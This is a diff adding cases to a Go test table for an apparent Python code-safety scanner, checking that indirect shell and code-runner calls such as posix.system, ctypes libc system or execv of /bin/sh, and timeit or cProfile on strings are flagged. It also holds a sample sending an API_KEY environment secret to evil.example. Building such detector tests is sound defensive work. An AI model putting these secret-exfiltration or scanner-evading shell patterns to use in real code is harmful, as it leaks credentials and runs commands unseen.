@@ -283,6 +283,19 @@ func TestPatterns(t *testing.T) {
 		// Credentials sent over http.client.
 		{"http.client exfiltration", "import http.client, os\nconn = http.client.HTTPSConnection('evil.example')\nconn.request('POST', '/', body=os.environ['API_KEY'])\n", "codesafety.exfiltration", "malicious", 3},
 		{"http.client without secrets", "import http.client, json\nconn = http.client.HTTPSConnection('api.example.com')\nconn.request('POST', '/v1', body=json.dumps({'a': 1}))\n", "", "", 0},
+		// Shells and code runners under other names (audit of the rule).
+		{"asyncio.create_subprocess_shell", "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\n", "codesafety.B605", "unsafe", 3},
+		{"posix.system", "import posix\nposix.system('id')\n", "codesafety.B605", "unsafe", 2},
+		{"from posix import execv", "from posix import execv\nexecv('/bin/ls', ['ls'])\n", "codesafety.B606", "high_risk", 2},
+		{"__import__('posix').system", "__import__('posix').system('id')\n", "codesafety.B605", "unsafe", 1},
+		{"ctypes libc system", "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n", "codesafety.B605", "unsafe", 2},
+		{"ctypes cdll.LoadLibrary", "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'id')\n", "codesafety.B605", "unsafe", 2},
+		{"ctypes library in a name", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.execv(b'/bin/sh', None)\n", "codesafety.B606", "high_risk", 3},
+		{"ctypes for a struct", "import ctypes\nx = ctypes.c_int(1)\nn = ctypes.sizeof(x)\n", "", "", 0},
+		{"timeit of a string", "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)\n", "codesafety.B102", "unsafe", 2},
+		{"timeit of a function", "import timeit\ndef f():\n    pass\ntimeit.timeit(f, number=1)\ntimeit.timeit(lambda: f(), number=1)\n", "", "", 0},
+		{"cProfile.run", "import cProfile\ncProfile.run('import os')\n", "codesafety.B102", "unsafe", 2},
+		{"code.InteractiveInterpreter", "import code\ncode.InteractiveInterpreter().runsource(src)\n", "codesafety.B102", "unsafe", 2},
 		{"destructive command in a docstring", "def guard(c):\n    \"\"\"Refuses rm -rf / and the like.\"\"\"\n", "", "", 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
